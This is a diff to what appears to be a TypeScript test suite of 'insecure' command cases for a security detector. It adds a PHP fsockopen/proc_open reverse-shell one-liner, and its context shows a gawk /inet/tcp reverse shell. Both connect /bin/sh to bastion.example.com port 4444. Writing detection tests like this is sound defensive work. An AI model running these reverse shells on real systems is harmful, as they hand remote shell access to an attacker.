@@ -255,6 +255,13 @@ const insecure: NodeCase[] = [
         RELAY,
     ),
     devNodeCase(
+        "php8.2 -r'fsockopen ... proc_open sh' (a versioned php, code glued)",
+        devNodeScript("dev-php82-glued-revshell-nodes", [
+            `nohup php8.2 -r'$s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);' &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
         "gawk --sou='BEGIN{/inet/tcp ...}' (a unique prefix of --source)",
         devNodeScript("dev-gawk-source-prefix-nodes", [
             `nohup gawk --sou='BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}' &`,
